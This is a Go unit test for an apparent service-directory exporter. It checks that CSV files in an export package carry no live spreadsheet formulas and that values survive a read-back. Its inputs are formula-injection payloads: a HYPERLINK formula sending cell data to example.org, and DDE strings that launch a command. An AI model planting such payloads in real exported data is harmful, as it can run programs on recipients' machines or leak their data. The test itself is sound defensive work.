package directory_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"amana"
	"amana/internal/directory"
	"amana/internal/event"
)

// A partner opens the tables in a program for sheets: nothing that somebody put into a
// service is worked out there, and what is read again is what was written.
func TestWritePackage_holdsNoFormula(t *testing.T) {
	for _, text := range []string{
		`=HYPERLINK("http://example.org/"&A1)`, "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'=1+1", "''=1+1",
		"+223 20 22 00 00", "-", "'t Huis", "Clinique",
	} {
		s := directory.Service{ID: amana.RecordID{1}, Values: directory.Values{
			"name": event.Text(text), "description": event.Text(text), "organization/name": event.Text("Organisation"),
		}}
		var out bytes.Buffer
		if err := directory.WritePackage(&out, directory.For([]directory.Service{s}, directory.ForOurselves, noon), noon); err != nil {
			t.Fatal(err)
		}
		archive, err := zip.NewReader(bytes.NewReader(out.Bytes()), int64(out.Len()))
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range archive.File {
			if !strings.HasSuffix(f.Name, ".csv") {
				continue
			}
			in, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(in).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=@+-", rune(cell[0])) && strings.ContainsAny(cell, "|!&(S") {
						t.Errorf("%s has the formula %q", f.Name, cell)
					}
				}
			}
		}
		again := directory.Read(bytes.NewReader(out.Bytes()))
		if len(again.Services) != 1 || again.Services[0].Values["name"].Reveal() != text {
			t.Errorf("%q is read as something else: %+v", text, again.Problems)
		}
	}
}
